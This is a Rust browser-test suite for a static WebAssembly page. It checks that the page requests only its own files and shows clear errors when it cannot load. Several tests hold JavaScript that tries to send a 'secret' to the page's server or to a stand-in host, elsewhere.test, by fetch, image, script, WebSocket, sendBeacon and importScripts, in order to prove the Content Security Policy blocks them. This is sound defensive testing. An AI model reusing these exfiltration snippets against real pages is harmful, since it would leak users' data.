//! The page works in any folder, requests nothing but its own files, and once it has loaded nothing at all.

use crate::browser::{Browser, Loss, Setting, with_browser};
use crate::server::Manner;
use serde_json::json;
use std::collections::BTreeSet;
use thirtyfour::prelude::*;

/// The names of the files that were asked for; fails on anything else.
pub(crate) fn own_files(browser: &Browser) -> Vec<String> {
    let url = browser.server.url("localhost");
    let host = url.split('/').nth(2).unwrap();
    let asked = browser.asked();
    assert!(!asked.is_empty());
    asked
        .into_iter()
        .map(|asked| {
            assert_eq!(asked.host, host, "a request to elsewhere: {asked:?}");
            let path = asked
                .line
                .strip_prefix("GET /")
                .unwrap_or_else(|| panic!("{asked:?}"));
            let name = path.split([' ', '?']).next().unwrap();
            let name = if name.is_empty() { "index.html" } else { name };
            assert!(
                browser.site.files.contains_key(name),
                "no such file: {asked:?}"
            );
            name.to_owned()
        })
        .collect()
}

#[tokio::test]
#[ignore = "needs a browser: `cargo xtask test` runs it"]
async fn it_asks_once_for_each_of_its_files_and_for_nothing_else() {
    with_browser(Setting::default(), async |browser| {
        browser.open().await;
        let asked = own_files(browser);
        let once: BTreeSet<_> = asked.iter().cloned().collect();
        assert_eq!(once.len(), asked.len(), "asked for twice: {asked:?}");
        let all: BTreeSet<_> = browser.site.files.keys().cloned().collect();
        assert_eq!(
            once, all,
            "what is served is needed, and what is needed is served"
        );
        assert_eq!(browser.complaints().await, Vec::<String>::new());
    })
    .await;
}

#[tokio::test]
#[ignore = "needs a browser: `cargo xtask test` runs it"]
async fn it_opens_under_any_path_and_with_a_wrong_type_for_wasm() {
    let manner = Manner {
        path: "/dangjian/2024/yujian/",
        wasm_type: "text/plain",
    };
    with_browser(
        Setting {
            manner,
            ..Setting::default()
        },
        async |browser| {
            browser.open().await;
            assert!(
                browser
                    .asked()
                    .iter()
                    .all(|asked| asked.line.starts_with("GET /dangjian/2024/yujian/"))
            );
            assert_eq!(browser.complaints().await, Vec::<String>::new());
        },
    )
    .await;
}

#[tokio::test]
#[ignore = "needs a browser: `cargo xtask test` runs it"]
async fn it_opens_on_plain_http_as_a_college_serves_it() {
    let setting = Setting {
        host: "college.test",
        ..Setting::default()
    };
    with_browser(setting, async |browser| {
        browser.open().await;
        assert_eq!(browser.script("return isSecureContext").await, json!(false));
        assert_eq!(browser.complaints().await, Vec::<String>::new());
    })
    .await;
}

/// Tries each way in which a script could send something away, and tells what became of each.
const SEND_FROM_PAGE: &str = r"
const done = arguments[arguments.length - 1];
const tries = {
  fetch: () => fetch('?secret'),
  elsewhere: () => fetch('http://elsewhere.test/?secret'),
  image: () => new Promise((ok, no) => {
    const image = new Image(); image.onload = ok; image.onerror = no; image.src = '/?secret'; }),
  script: () => new Promise((ok, no) => {
    const script = document.createElement('script');
    script.onload = ok; script.onerror = no; script.src = '/check.js?secret'; document.head.append(script); }),
  style: () => new Promise((ok, no) => {
    const link = document.createElement('link');
    link.rel = 'stylesheet'; link.onload = ok; link.onerror = no; link.href = '/screen.css?secret';
    document.head.append(link); }),
  socket: () => new Promise((ok, no) => {
    const socket = new WebSocket('ws://' + location.host + '/secret'); socket.onopen = ok; socket.onerror = no; }),
  events: () => new Promise((ok, no) => {
    const events = new EventSource('/secret'); events.onopen = ok; events.onerror = no; }),
};
const beacon = navigator.sendBeacon('/secret', 'secret');
Promise.all(Object.entries(tries).map(async ([name, attempt]) => {
  try { await attempt(); return name + ' went out'; } catch { return name + ' was stopped'; }
})).then(done);
";

#[tokio::test]
#[ignore = "needs a browser: `cargo xtask test` runs it"]
async fn nothing_can_leave_the_page() {
    with_browser(Setting::default(), async |browser| {
        browser.open().await;
        browser.asked();
        let answer = browser
            .driver
            .execute_async(SEND_FROM_PAGE, Vec::new())
            .await
            .unwrap();
        let answer: Vec<String> = answer.convert().unwrap();
        assert_eq!(answer.len(), 7);
        assert!(
            answer.iter().all(|word| word.ends_with("was stopped")),
            "{answer:?}"
        );
        assert_eq!(browser.asked(), []);
        assert!(
            browser
                .complaints()
                .await
                .iter()
                .any(|word| word.replace('-', " ").contains("Content Security Policy"))
        );
    })
    .await;
}

#[tokio::test]
#[ignore = "needs a browser: `cargo xtask test` runs it"]
async fn nothing_can_leave_a_worker() {
    with_browser(Setting::default(), async |browser| {
        let home = browser.server.url("localhost");
        let attempts = format!(
            "ask: (target) => fetch(target + '?secret').then(() => 'went out', (error) => error.name),
            home() {{ return this.ask('{home}'); }},
            elsewhere() {{ return this.ask('http://elsewhere.test/'); }},
            script() {{
                try {{ importScripts('http://elsewhere.test/'); return 'went out'; }}
                catch (error) {{ return error.name; }}
            }}"
        );
        browser.teach_workers(&attempts).await;
        browser.open().await;
        browser.asked();
        // Both run before any file is chosen.
        for name in ["inspect", "submission"] {
            for (attempt, end) in [
                ("home", "TypeError"),
                ("elsewhere", "TypeError"),
                ("script", "NetworkError"),
            ] {
                assert_eq!(browser.ask_worker(name, attempt).await, json!(end), "{name}");
            }
        }
        assert_eq!(browser.asked(), []);
    })
    .await;
}

#[tokio::test]
#[ignore = "needs a browser: `cargo xtask test` runs it"]
async fn the_test_server_would_have_seen_a_request() {
    // The two tests above prove something only if a request that is not blocked arrives.
    with_browser(Setting::default(), async |browser| {
        let blank = browser.server.url("localhost") + "notice.json";
        browser.driver.goto(blank).await.unwrap();
        browser.asked();
        let send = "const done = arguments[0]; fetch('http://elsewhere.test/?secret', {mode: 'no-cors'}).then(done, done)";
        browser.driver.execute_async(send, Vec::new()).await.unwrap();
        let asked = browser.asked();
        assert!(asked.iter().any(|asked| asked.host == "elsewhere.test"), "{asked:?}");
    })
    .await;
}

/// Whether the element of that id is shown, waited for, and nothing else of its kind is.
async fn says(browser: &Browser, id: &str, words: &str) {
    let element = browser
        .until(id, async || {
            let element = browser.driver.find(By::Id(id)).await.ok()?;
            element.is_displayed().await.ok()?.then_some(element)
        })
        .await;
    let text = element.text().await.unwrap();
    assert!(text.contains(words), "{text}");
    let shown =
        browser.script("return document.querySelectorAll('[role=alert]:not([hidden])').length");
    assert_eq!(shown.await, json!(1));
    // No field that could never answer, and nothing that seems to be still loading.
    for id in ["loading", "choose"] {
        let part = browser.find(&format!("#{id}")).await;
        assert!(!part.is_displayed().await.unwrap(), "{id}");
    }
}

#[tokio::test]
#[ignore = "needs a browser: `cargo xtask test` runs it"]
async fn a_browser_that_is_too_old_is_told_what_to_use() {
    // Each of these is what an older browser lacks.
    for lack in [
        "delete window.WebAssembly",
        "WebAssembly.Module = class { constructor() { throw new WebAssembly.CompileError('CSP') } }",
        "delete Blob.prototype.arrayBuffer",
    ] {
        with_browser(Setting::default(), async |browser| {
            browser.before_any_script(lack).await;
            browser
                .driver
                .goto(browser.server.url("localhost"))
                .await
                .unwrap();
            says(browser, "too-old", "极速模式").await;
            says(browser, "too-old", "Edge 97").await;
        })
        .await;
    }
}

#[tokio::test]
#[ignore = "needs a browser: `cargo xtask test` runs it"]
async fn a_page_that_cannot_load_says_so() {
    with_browser(Setting::default(), async |browser| {
        for missing in ["verdict_bg.wasm", "verdict.js", "boot.js", "notice.json"] {
            browser.lose(missing, Loss::Missing);
            let url = browser.server.url("localhost");
            browser.driver.goto(url).await.unwrap();
            says(browser, "load-failed", "F5").await;
        }
    })
    .await;
}

#[tokio::test]
#[ignore = "needs a browser: `cargo xtask test` runs it"]
async fn a_page_opened_from_a_folder_says_so() {
    with_browser(Setting::default(), async |browser| {
        for (name, bytes) in browser.site.files.iter() {
            std::fs::write(browser.path(name), bytes).unwrap();
        }
        let url = format!("file://{}", browser.path("index.html").display());
        browser.driver.goto(url).await.unwrap();
        says(browser, "from-folder", "http://").await;
    })
    .await;
}

#[tokio::test]
#[ignore = "needs a browser: `cargo xtask test` runs it"]
async fn a_browser_without_scripts_is_told_why_they_are_needed() {
    let setting = Setting {
        scripts: false,
        ..Setting::default()
    };
    with_browser(setting, async |browser| {
        browser
            .driver
            .goto(browser.server.url("localhost"))
            .await
            .unwrap();
        let text = browser.find("noscript").await.text().await.unwrap();
        assert!(text.contains("JavaScript"), "{text}");
        let field = browser.find("#choose").await;
        assert!(!field.is_displayed().await.unwrap());
    })
    .await;
}
